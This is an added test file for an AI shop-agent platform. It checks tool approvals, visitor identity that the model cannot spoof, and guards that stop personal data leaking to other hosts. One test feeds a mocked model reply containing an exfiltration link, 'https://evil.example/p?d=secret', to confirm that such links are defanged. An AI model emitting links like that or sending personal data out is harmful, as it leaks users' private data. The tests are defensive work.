@@ -1,0 +1,138 @@
+import { openShop } from './open-shop.ts';
+
+const shop = await openShop();
+afterAll(() => shop.close());
+const { provider, receiver, calls, cancelOrder: CANCEL } = shop;
+const site = await shop.seedSite();
+const cancelId = await site.createTool('cancel_order', CANCEL);
+await site.createTool('read_order', { method: 'GET', endpointUrl: `${receiver.url}/orders` });
+calls('please cancel', 'cancel_order', { number: 'B-1' });
+beforeEach(() => {
+  receiver.received.length = 0;
+  receiver.replyWith((_, response) => void response.end('{"done": true}'));
+});
+
+describe('approvals of tools', () => {
+  test('a tool without the new fields is called as documented, unless its agent requires approvals', async () => {
+    const open = await shop.seedSite({});
+    await open.createTool('cancel_order', CANCEL);
+    const { asked, text } = await open.visit().say('please cancel');
+    expect([asked, receiver.received.length]).toEqual([[], 1]);
+    expect(text).toContain('done');
+  });
+
+  test('a write without an approval needs a confirmation by name', async () => {
+    const input = { name: 'open', description: 'x', endpointUrl: receiver.url, approval: 'none' };
+    const create = 'mutation ($id: ID!, $input: NewTool!) { createTool(agentId: $id, input: $input) { id } }';
+    const { id } = site.agent;
+    expect(await site.admin.refusal(create, { id, input })).toMatch(/^INVALID_INPUT: confirmUnprotected must be open/);
+    expect(await site.admin.refusal(create, { id, input: { ...input, confirmUnprotected: 'open' } })).toBeUndefined();
+    calls('use the open one', 'open', {});
+    expect((await site.visit().say('use the open one')).asked).toEqual([]);
+    expect(receiver.received).toHaveLength(1);
+  });
+
+  test('the parameters are sent as the model wrote them', async () => {
+    const input = { zone: 'b', amount: 12, at: { y: 1, x: [2] }, a: '1' };
+    await site.createTool('transfer', { endpointUrl: `${receiver.url}/transfer` });
+    calls('transfer it', 'transfer', input);
+    const visitor = site.visit(undefined, await site.sign({ sub: 'c-1', z: { b: 1, a: 2 } }));
+    const { asked } = await visitor.say('transfer it');
+    await visitor.decide(asked[0]!, true);
+    expect(receiver.received.map(({ body }) => body)).toEqual([JSON.stringify(input)]);
+  });
+
+  test('a read needs no approval', async () => {
+    calls('read my orders', 'read_order', {});
+    expect((await site.visit().say('read my orders')).asked).toEqual([]);
+    expect(receiver.received).toHaveLength(1);
+  });
+
+  test('the server fills in the visitor, and the model cannot', async () => {
+    await site.createTool('my_orders', {
+      method: 'GET',
+      endpointUrl: `${receiver.url}/customers/{{visitor.id}}/orders`,
+      queryTemplate: { plan: '{{visitor.claims.plan}}' },
+    });
+    calls('my own orders', 'my_orders', { visitor: { id: 'c-2' }, 'visitor.id': 'c-2' });
+    expect((await site.visit().say('my own orders')).text).toMatch(/signed in on the website/);
+    expect(receiver.received).toEqual([]);
+    const ada = site.visit(undefined, await site.sign({ sub: 'c-1', plan: 'gold/../x' }));
+    await ada.say('my own orders');
+    expect(receiver.received.map(({ url, headers }) => [url, headers['x-svc-visitor']])).toEqual([
+      ['/customers/c-1/orders?plan=gold%2F..%2Fx', 'c-1'],
+    ]);
+    const bob = site.visit(undefined, await site.sign({ sub: '..', plan: 'x' }));
+    expect((await bob.say('my own orders')).text).toMatch(/must not be "\." or "\.\."/);
+    const noPlan = site.visit(undefined, await site.sign({ sub: 'c-3' }));
+    expect((await noPlan.say('my own orders')).text).toMatch(/has no claims\.plan/);
+    expect(receiver.received).toHaveLength(1);
+  });
+});
+
+describe('personal data', () => {
+  test('after a personal result, a call to another host waits for the visitor, also in a later message', async () => {
+    await site.createTool('profile', { method: 'GET', data: 'personal', endpointUrl: `${receiver.url}/profile` });
+    await site.createTool('weather', {
+      method: 'GET',
+      endpointUrl: `http://localhost:${receiver.port}/weather?city={{params.city}}`,
+    });
+    calls('show my profile', 'profile', {});
+    calls('and the weather', 'weather', { city: 'Ada Lovelace, Bond Street' });
+    const visitor = site.visit();
+    expect((await visitor.say('and the weather')).asked).toEqual([]);
+    receiver.received.length = 0;
+    const { conversationId } = await visitor.say('show my profile');
+    const { asked } = await visitor.say('and the weather', conversationId);
+    expect(asked).toHaveLength(1);
+    expect(receiver.received.map(({ url }) => url)).toEqual(['/profile']);
+    const [{ text } = {}] = await visitor.approvals(conversationId);
+    expect(text).toContain('Ada Lovelace, Bond Street');
+    calls('once more', 'profile', {});
+    expect((await visitor.say('once more', conversationId)).asked).toEqual([]);
+  });
+
+  test('links of a reply lead only to hosts of sources and tools', async () => {
+    provider.on('give me links', (response) => {
+      const text = `See [orders](${receiver.url}/orders) and ![x](https://evil.example/p?d=secret) or www.evil.example/a.`;
+      for (const piece of text.match(/.{1,7}/gs)!) response.text(piece);
+      response.finish();
+    });
+    expect((await site.visit().say('give me links')).text).toBe(
+      `See [orders](${receiver.url}/orders) and ![x] (https[:]//evil.example/p?d=secret) or www[.]evil.example/a.`,
+    );
+  });
+});
+
+test('after a personal result, a link leads only to the host of the data', async () => {
+  const links = `[here](${receiver.url}/orders) or [there](http://localhost:${receiver.port}/x?d=secret)`;
+  provider.on('links with data', (response, { messages }) => {
+    if (messages.at(-1)!.role === 'tool') response.text(links).finish();
+    else response.call(0, 'c1', 'profile', '{}').finish('tool_calls');
+  });
+  expect((await site.visit().say('links with data')).text).toBe(
+    `[here](${receiver.url}/orders) or [there] (http[:]//localhost[:]${receiver.port}/x?d=secret)`,
+  );
+});
+
+test('the playground shows the request of a write instead of sending it', async () => {
+  const text = `subscription ($id: ID!, $messages: [UIMessage!]!, $preview: Boolean!) { chat(agentId: $id, messages: $messages, preview: $preview) { part } }`;
+  const messages = [{ role: 'user', parts: [{ type: 'text', text: 'please cancel' }] }];
+  const events = await site.admin.follow(text, { id: site.agent.id, messages, preview: true });
+  expect(events.map(({ chat }) => chat.part)).toContainEqual(
+    expect.objectContaining({
+      type: 'tool-output-available',
+      output: expect.objectContaining({
+        preview: true,
+        sent: false,
+        request: expect.objectContaining({ url: `${receiver.url}/orders/B-1/cancel` }),
+      }),
+    }),
+  );
+  const { previewTool } = await site.admin.ask(
+    'mutation ($agentId: ID!, $id: ID!) { previewTool(agentId: $agentId, id: $id, input: { number: "B-9" }) { request { url } response { status } } }',
+    { agentId: site.agent.id, id: cancelId },
+  );
+  expect(previewTool).toEqual({ request: { url: `${receiver.url}/orders/B-9/cancel` }, response: null });
+  expect(receiver.received).toEqual([]);
+});
